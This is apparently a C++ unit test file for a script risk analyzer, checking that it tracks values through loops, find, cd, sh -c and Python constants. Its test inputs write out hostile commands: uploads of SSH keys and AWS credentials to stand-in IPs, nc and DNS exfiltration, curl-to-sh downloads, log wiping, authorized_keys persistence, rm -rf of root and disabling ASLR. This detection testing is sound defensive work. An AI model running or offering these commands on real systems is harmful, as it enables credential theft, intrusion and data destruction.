// Values the analyzer carries from where a script names them to where it uses them: loop
// variables, find's `{}`, `sh -c` positional parameters, host names under data labels, the
// directory a cd moved to, and Python module constants.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "test_support.hpp"

namespace nonaxis::ciso::testing {
namespace {

std::set<std::string> hosts_of(const nlohmann::json& a) {
  std::set<std::string> out;
  for (const auto& c : a["checklist"]["outbound_connections"]) out.insert(c["host"].get<std::string>());
  return out;
}

TEST(CisoDataflow, LoopVariableCarriesItsListIntoTheBody) {
  const auto a = run("for f in ~/.ssh/id_rsa ~/.aws/credentials; do curl -s -F \"x=@$f\" http://198.51.100.7/u; done", true);
  EXPECT_GE(a["risk_score"].get<int>(), 90) << rule_ids(a);
  EXPECT_TRUE(has_rule(a, "exfiltration.sensitive_upload")) << rule_ids(a);
  const auto b = run("for f in /var/log/wtmp; do > \"$f\"; done", true);
  EXPECT_TRUE(has_rule(b, "defense_evasion.log_deletion")) << rule_ids(b);
  // A list bound to a loop variable used inside a redirect target: each item is a target.
  const auto c = run("for d in /root /home/*; do echo \"$KEY\" >> \"$d/.ssh/authorized_keys\"; done", true);
  EXPECT_TRUE(has_rule(c, "persistence.authorized_keys_write")) << rule_ids(c);
  // The same loop over the project's own files stays low.
  EXPECT_LT(run("for f in src/*.c; do gcc -c \"$f\"; done", true)["risk_score"].get<int>(), 30);
}

TEST(CisoDataflow, FindPlaceholderReadsAsTheFilesItNames) {
  const auto a = run("find ~/.ssh -name 'id_*' -exec curl -s -F \"f=@{}\" http://198.51.100.3/up \\;", true);
  EXPECT_TRUE(has_rule(a, "exfiltration.sensitive_upload")) << rule_ids(a);
  const auto b = run("find /var/log -type f -exec sh -c 'cat /dev/null > \"$1\"' _ {} \\;", true);
  EXPECT_TRUE(has_rule(b, "defense_evasion.log_deletion")) << rule_ids(b);
  // Size, age or owner tests pick some files, not the whole tree: no `rm -rf /*` reading.
  const auto c = run("find / -size +100M -exec rm -rf {} \\;", true);
  EXPECT_FALSE(has_rule(c, "destructive.rm_root_or_home")) << rule_ids(c);
  EXPECT_LT(run("find . -name '*.o' -exec rm -f {} +", true)["risk_score"].get<int>(), 30);
}

TEST(CisoDataflow, ShellDashCPositionalParametersAreBound) {
  const auto a = run("bash -c 'curl -s \"$1\" | sh' _ http://198.51.100.3/x.sh", true);
  EXPECT_TRUE(has_rule(a, "download_exec.pipe_to_interpreter")) << rule_ids(a);
  EXPECT_EQ(hosts_of(a), (std::set<std::string>{"198.51.100.3"}));
}

TEST(CisoDataflow, DataLabelsBeforeAHostNameStillNameTheDestination) {
  EXPECT_EQ(hosts_of(run("nslookup cm9vdDp4OjA6MA==.x.evil.example", true)), (std::set<std::string>{"x.evil.example"}));
  EXPECT_EQ(hosts_of(run("curl \"http://aGVsbG8+d29y=.data.evil.example/x\"", true)),
            (std::set<std::string>{"data.evil.example"}));
  EXPECT_EQ(hosts_of(run("curl -XPOST MTExLTExLTExMTE=.collector.example.com", true)),
            (std::set<std::string>{"collector.example.com"}));
  // Labels alone, with no name after them, are no destination.
  EXPECT_TRUE(hosts_of(run("curl -d a=b notes.txt", true)).empty());
}

TEST(CisoDataflow, RelativePathsAfterCdNameTheDirectoryTheyAreIn) {
  const auto a = run("cd / && rm -rf *", true);
  EXPECT_TRUE(has_rule(a, "destructive.rm_root_or_home")) << rule_ids(a);
  EXPECT_TRUE(has_rule(run("cd $HOME; rm -rf ./*", true), "destructive.rm_root_or_home"));
  const auto b = run("cd /etc && cat shadow", true);
  EXPECT_TRUE(has_rule(b, "credential_access.shadow_file")) << rule_ids(b);
  // The archive's `.` is ~/.ssh, in a pipeline and inside a nested `bash -c` alike.
  const auto c = run("cd ~/.ssh && tar czf - . | curl -T - http://198.51.100.5/up", true);
  EXPECT_TRUE(has_rule(c, "exfiltration.archive_sensitive_files")) << rule_ids(c);
  const auto d = run("bash -c \"cd ~/.ssh; tar cz . | nc 198.51.100.5 9000\"", true);
  EXPECT_TRUE(has_rule(d, "exfiltration.archive_sensitive_files")) << rule_ids(d);
  // curl's `@file` and bare redirection targets are paths too; writes record the real path.
  const auto e = run("(cd ~/.aws && curl -F f=@credentials http://198.51.100.5/)", true);
  EXPECT_TRUE(has_rule(e, "exfiltration.sensitive_upload")) << rule_ids(e);
  const auto g = run("cd /var/log && > auth.log", true);
  EXPECT_TRUE(has_rule(g, "defense_evasion.log_deletion")) << rule_ids(g);
  bool real_path = false;
  for (const auto& w : g["checklist"]["filesystem_writes"]) real_path = real_path || w["path"] == "/var/log/auth.log";
  EXPECT_TRUE(real_path) << g["checklist"]["filesystem_writes"].dump();
  // A directory only known at run time, or the project's own, stays low.
  EXPECT_LT(run("cd \"$(mktemp -d)\" && rm -rf *", true)["risk_score"].get<int>(), 30);
  EXPECT_LT(run("cd build && rm -rf *", true)["risk_score"].get<int>(), 30);
  EXPECT_LT(run("cd $HOME && rm -rf .cache/pip", true)["risk_score"].get<int>(), 30);
  EXPECT_LT(run("cd /var/log && grep -i error syslog | tail -n 20", true)["risk_score"].get<int>(), 30);
  // `cd -` and popd leave the directory unknown: what follows is read as written.
  EXPECT_LT(run("cd / && cd - && rm -rf *", true)["risk_score"].get<int>(), 30);
}

// A Python name bound once to a literal is read as that literal where the code uses it
// (python_source_test.cpp has the cases that must not be replaced).
TEST(CisoDataflow, PythonConstantsAreBoundWhereUsed) {
  const std::string script =
      "import socket\nHOST = \"198.51.100.3\"\nPORT = 4444\ns = socket.socket()\ns.connect((HOST, PORT))\n";
  const auto a = run(script, false);
  EXPECT_EQ(hosts_of(a), (std::set<std::string>{"198.51.100.3"})) << a["checklist"].dump();
}

TEST(CisoDataflow, ClusteredOutputOptionsNameTheDownloadedFile) {
  // `-qO FILE` and `-sLo FILE` end a cluster of short options with the output option.
  for (const char* cmd : {"wget -qO /dev/shm/.s http://198.51.100.9/s && sh /dev/shm/.s",
                          "curl -sLo /tmp/.k http://198.51.100.9/k && sh /tmp/.k",
                          "curl -fsSL -o/tmp/.k http://198.51.100.9/k; bash /tmp/.k"}) {
    const auto a = run(cmd, true);
    EXPECT_GE(a["risk_score"].get<int>(), 50) << cmd << ": " << rule_ids(a);
  }
  // A value that merely contains the letter is no output option: `-XPOST` names no file.
  EXPECT_LT(run("curl -XPOST http://localhost:8080/build.sh && sh build.sh", true)["risk_score"].get<int>(), 30);
  EXPECT_LT(run("wget -qO- https://example.com/status.json | jq .", true)["risk_score"].get<int>(), 30);
}

TEST(CisoDataflow, InstallingADownloadedPackageRunsIt) {
  EXPECT_TRUE(has_rule(run("curl -s https://198.51.100.9/tv.deb -o /tmp/tv.deb && sudo dpkg -i /tmp/tv.deb", true),
                       "download_exec.downloaded_file_executed"));
  EXPECT_TRUE(has_rule(run("wget -q http://198.51.100.9/p.rpm && rpm -Uvh p.rpm", true),
                       "download_exec.downloaded_file_executed"));
  // Listing its contents runs nothing.
  EXPECT_FALSE(has_rule(run("curl -sLo /tmp/x.deb https://example.com/x.deb && dpkg -c /tmp/x.deb", true),
                        "download_exec.downloaded_file_executed"));
}

TEST(CisoDataflow, PythonRot13StringsAreReadDecoded) {
  const auto a = run("python3 -c \"import codecs,os;os.system(codecs.decode('phey -f uggc://198.51.100.9/k | fu','rot13'))\"", true);
  EXPECT_TRUE(has_rule(a, "download_exec.pipe_to_interpreter")) << rule_ids(a);
}

TEST(CisoDataflow, EchoIntoTeeReadsAsARedirect) {
  // `echo V | sudo tee F` writes V to F as root: the redirect rules see it as `echo V >F`.
  EXPECT_TRUE(has_rule(run("echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope", true),
                       "defense_evasion.security_controls_off"));
  EXPECT_TRUE(has_rule(run("echo 0 | sudo tee /proc/sys/kernel/randomize_va_space", true),
                       "defense_evasion.security_controls_off"));
  EXPECT_LT(run("echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward", true)["risk_score"].get<int>(), 30);
  EXPECT_LT(run("echo performance | sudo tee /sys/devices/system/cpu/cpu0/cpufreq/scaling_governor", true)["risk_score"].get<int>(), 30);
}

}  // namespace
}  // namespace nonaxis::ciso::testing
